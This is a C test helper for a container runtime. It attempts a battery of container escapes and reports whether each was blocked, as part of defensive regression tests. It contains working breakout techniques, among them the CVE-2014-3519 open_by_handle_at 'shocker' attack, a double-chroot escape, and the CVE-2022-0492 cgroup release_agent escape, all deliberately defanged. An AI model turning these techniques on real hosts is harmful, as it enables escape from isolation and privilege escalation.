/* Escape attempts from inside a container, for tests/cli/test_escapes.py and
 * tests/runtime/test_escapes.py. Built static (gcc -static) so it runs in any rootfs.
 *
 *   escape ATTACK [ARG]
 *
 * Prints one line and exits:
 *   0  "blocked: STEP: ERRNO-TEXT"      the attack failed (what a test wants)
 *   3  "ESCAPED: WHAT"                  the attack reached past the container
 *   2  usage error
 * Every attack is harmless when it succeeds: it only reads, or touches a marker the test
 * named, or loads nothing (a module image of zero bytes), or sets a release agent of a
 * private, freshly named cgroup hierarchy.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int blocked(const char *step)
{
    printf("blocked: %s: %s\n", step, strerror(errno));
    return 0;
}

static int escaped(const char *what)
{
    printf("ESCAPED: %s\n", what);
    return 3;
}

static long sys_keyctl_join(void)
{
    return syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "barque-escape");
}

static int keyctl_attack(void)
{
    if (sys_keyctl_join() < 0)
        return blocked("keyctl(JOIN_SESSION_KEYRING)");
    return escaped("keyctl joined a new session keyring");
}

static int add_key_attack(void)
{
    if (syscall(SYS_add_key, "user", "barque-escape", "x", 1, -3 /* session */) < 0)
        return blocked("add_key");
    return escaped("add_key added a key");
}

static int request_key_attack(void)
{
    if (syscall(SYS_request_key, "user", "barque-escape", NULL, -3) < 0 && errno != ENOKEY)
        return blocked("request_key");
    if (errno == ENOKEY)
        return escaped("request_key searched the keyrings (ENOKEY)");
    return escaped("request_key found a key");
}

static int bpf_attack(void)
{
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr) < 0)
        return blocked("bpf(BPF_MAP_CREATE)");
    return escaped("bpf created a map");
}

static int unshare_attack(int flags, const char *step)
{
    if (unshare(flags) < 0)
        return blocked(step);
    return escaped(step);
}

static int clone_user_attack(void)
{
    /* clone(2) with a namespace flag, the raw way around unshare's filter. */
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
    if (pid < 0)
        return blocked("clone(CLONE_NEWUSER)");
    if (pid == 0)
        _exit(0);
    waitpid((pid_t)pid, NULL, 0);
    return escaped("clone(CLONE_NEWUSER)");
}

static int userfaultfd_attack(void)
{
    if (syscall(SYS_userfaultfd, O_CLOEXEC) < 0)
        return blocked("userfaultfd");
    return escaped("userfaultfd");
}

static int perf_attack(void)
{
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    /* cpu-wide (pid -1): what an unprivileged process may never watch */
    if (syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0) < 0)
        return blocked("perf_event_open(pid=-1, cpu=0)");
    return escaped("perf_event_open on the whole CPU");
}

static int ptrace_attack(const char *pid)
{
    if (ptrace(PTRACE_ATTACH, atoi(pid), NULL, NULL) < 0)
        return blocked("ptrace(PTRACE_ATTACH)");
    ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
    return escaped("ptrace attached");
}

static int shocker_attack(const char *mount_file)
{
    /* CVE-2014-3519 "shocker": open the host filesystem's root inode (ext4: 2) by handle,
     * through a file of that filesystem bind-mounted into the container. */
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned char f_handle[8];
    } h = {8, 1 /* FILEID_INO32_GEN */, {2, 0, 0, 0, 0, 0, 0, 0}};
    int mfd = open(mount_file, O_RDONLY);
    if (mfd < 0)
        return blocked("open mount file");
    int fd = (int)syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return blocked("open_by_handle_at");
    return escaped("open_by_handle_at opened the host's root inode");
}

static int chroot_attack(const char *host_path)
{
    /* The classic double-chroot breakout: keep a directory fd outside a nested chroot,
     * climb with "..", chroot to where that lands. */
    mkdir("/tmp/barque-jail", 0700);
    int fd = open(".", O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return blocked("open .");
    if (chroot("/tmp/barque-jail") < 0)
        return blocked("chroot jail");
    if (fchdir(fd) < 0)
        return blocked("fchdir");
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            return blocked("chdir ..");
    if (chroot(".") < 0)
        return blocked("chroot .");
    if (access(host_path, F_OK) == 0)
        return escaped(host_path);
    /* where it landed, for the record */
    DIR *root = opendir("/");
    struct dirent *e;
    printf("(landed in a root holding:");
    for (int n = 0; root && (e = readdir(root)) != NULL && n < 12; n++)
        if (e->d_name[0] != '.')
            printf(" %s", e->d_name);
    printf(") ");
    if (root)
        closedir(root);
    errno = ENOENT;
    return blocked("the host path after the breakout");
}

static int procwalk_attack(const char *host_path)
{
    /* Every /proc/PID/{root,cwd} and /proc/self/exe's directory: none may reach the host. */
    char path[4096];
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int seen = 0;
    if (!proc)
        return blocked("opendir /proc");
    while ((e = readdir(proc)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        const char *links[] = {"root", "cwd", "exe/..", "exe/../.."};
        for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s%s", e->d_name, links[i], host_path);
            seen++;
            if (access(path, F_OK) == 0) {
                closedir(proc);
                return escaped(path);
            }
        }
    }
    closedir(proc);
    errno = ENOENT;
    printf("(%d paths tried) ", seen);
    return blocked("the host path through /proc/*/{root,cwd,exe}");
}

static int module_attack(void)
{
    /* An empty module image: a kernel that lets us try parses it and says ENOEXEC/EINVAL;
     * only EPERM (no CAP_SYS_MODULE, seccomp) or ENOSYS (no module support) mean blocked. */
    int fd = open("/proc/self/exe", O_RDONLY);
    if (syscall(SYS_init_module, "", 0, "") == 0 || (errno != EPERM && errno != ENOSYS))
        return escaped("init_module reached the module loader");
    printf("init_module: %s; ", strerror(errno));
    if (syscall(SYS_finit_module, fd, "", 0) == 0 || (errno != EPERM && errno != ENOSYS))
        return escaped("finit_module reached the module loader");
    return blocked("finit_module");
}

static int fsopen_attack(void)
{
    /* The new mount API, another way to a mount. */
    if (syscall(SYS_fsopen, "proc", 0) < 0)
        return blocked("fsopen(proc)");
    return escaped("fsopen(proc)");
}

/* Privileged calls made so that, were they allowed, the kernel would refuse the arguments
 * (or do nothing): only EPERM means the boundary stopped them (ENOSYS: this kernel has no
 * such call, nothing to reach). */
static int denied(long rc, const char *step)
{
    if (rc == 0 || (errno != EPERM && errno != ENOSYS)) {
        printf("%s: %s; ", step, rc == 0 ? "succeeded" : strerror(errno));
        return escaped(step);
    }
    return blocked(step);
}

static int reboot_attack(void)
{
    /* CAD_OFF: what Ctrl-Alt-Del does; in a child pid namespace the kernel says EINVAL */
    return denied(syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* CAD_OFF */, NULL),
                  "reboot(CAD_OFF)");
}

static int kexec_attack(void)
{
    return denied(syscall(SYS_kexec_file_load, -1, -1, 0, "", 4 /* NO_INITRAMFS */),
                  "kexec_file_load(bad fds)");
}

static int swapon_attack(void)
{
    return denied(syscall(SYS_swapon, "/nonexistent-swap", 0), "swapon(missing file)");
}

static int settime_attack(void)
{
    /* The clock's tick set to the value it has: a change of nothing, if it were allowed */
    struct timex now = {0};
    if (adjtimex(&now) < 0)
        return blocked("adjtimex(read)");
    struct timex same = {0};
    same.modes = ADJ_TICK;
    same.tick = now.tick;
    return denied(adjtimex(&same) < 0 ? -1 : 0, "adjtimex(ADJ_TICK, unchanged)");
}

static int ioperm_attack(void)
{
    /* Access to port 0x80 (POST codes) for this process; never used, and dropped again */
    long rc = syscall(SYS_ioperm, 0x80, 1, 1);
    if (rc == 0)
        syscall(SYS_ioperm, 0x80, 1, 0);
    return denied(rc, "ioperm(0x80, on)");
}

static int write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    int n = (int)write(fd, text, strlen(text));
    close(fd);
    return n < 0 ? -1 : 0;
}

static int release_agent_attack(const char *host_script, const char *name)
{
    /* CVE-2022-0492: a v1 cgroup hierarchy mounted inside, its release_agent set to a host
     * path; the host kernel runs it as root when the child cgroup empties. The hierarchy is a
     * new named one (name=NAME), so even success changes nothing of the host's hierarchies. */
    char buf[256];
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (mkdir("/tmp/barque-cg", 0700) < 0 && errno != EEXIST)
        return blocked("mkdir mount point");
    snprintf(buf, sizeof buf, "none,name=%s", name);
    if (mount("cgroup", "/tmp/barque-cg", "cgroup", 0, buf) < 0) {
        /* no CAP_SYS_ADMIN: try it through a user namespace (root inside it) */
        printf("mount: %s; ", strerror(errno));
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
            return blocked("unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP)");
        write_file("/proc/self/setgroups", "deny");
        snprintf(buf, sizeof buf, "0 %u 1", uid);
        write_file("/proc/self/uid_map", buf);
        snprintf(buf, sizeof buf, "0 %u 1", gid);
        write_file("/proc/self/gid_map", buf);
        snprintf(buf, sizeof buf, "none,name=%s", name);
        if (mount("cgroup", "/tmp/barque-cg", "cgroup", 0, buf) < 0)
            return blocked("mount cgroup v1 in a user namespace");
    }
    if (write_file("/tmp/barque-cg/release_agent", host_script) < 0) {
        int saved = errno;
        umount2("/tmp/barque-cg", MNT_DETACH);
        errno = saved;
        return blocked("write release_agent");
    }
    mkdir("/tmp/barque-cg/x", 0755);
    write_file("/tmp/barque-cg/x/notify_on_release", "1");
    pid_t child = fork();
    if (child == 0) {
        snprintf(buf, sizeof buf, "%d", getpid());
        write_file("/tmp/barque-cg/x/cgroup.procs", buf);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    sleep(1);
    rmdir("/tmp/barque-cg/x");
    /* A named v1 hierarchy outlives its last mount: leave it with no release agent. */
    write_file("/tmp/barque-cg/release_agent", "\n");
    umount2("/tmp/barque-cg", MNT_DETACH);
    return escaped("release_agent written");
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *a = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(a, "keyctl")) return keyctl_attack();
    if (!strcmp(a, "add_key")) return add_key_attack();
    if (!strcmp(a, "request_key")) return request_key_attack();
    if (!strcmp(a, "bpf")) return bpf_attack();
    if (!strcmp(a, "unshare_user"))
        return unshare_attack(CLONE_NEWUSER | CLONE_NEWNS, "unshare(CLONE_NEWUSER|CLONE_NEWNS)");
    if (!strcmp(a, "unshare_mount")) return unshare_attack(CLONE_NEWNS, "unshare(CLONE_NEWNS)");
    if (!strcmp(a, "clone_user")) return clone_user_attack();
    if (!strcmp(a, "userfaultfd")) return userfaultfd_attack();
    if (!strcmp(a, "perf_event_open")) return perf_attack();
    if (!strcmp(a, "ptrace")) return ptrace_attack(arg);
    if (!strcmp(a, "shocker")) return shocker_attack(arg);
    if (!strcmp(a, "chroot")) return chroot_attack(arg);
    if (!strcmp(a, "procwalk")) return procwalk_attack(arg);
    if (!strcmp(a, "module")) return module_attack();
    if (!strcmp(a, "fsopen")) return fsopen_attack();
    if (!strcmp(a, "reboot")) return reboot_attack();
    if (!strcmp(a, "kexec")) return kexec_attack();
    if (!strcmp(a, "swapon")) return swapon_attack();
    if (!strcmp(a, "settime")) return settime_attack();
    if (!strcmp(a, "ioperm")) return ioperm_attack();
    if (!strcmp(a, "release_agent") && argc > 3) return release_agent_attack(arg, argv[3]);
    fprintf(stderr, "usage: escape ATTACK [ARG]\n");
    return 2;
}
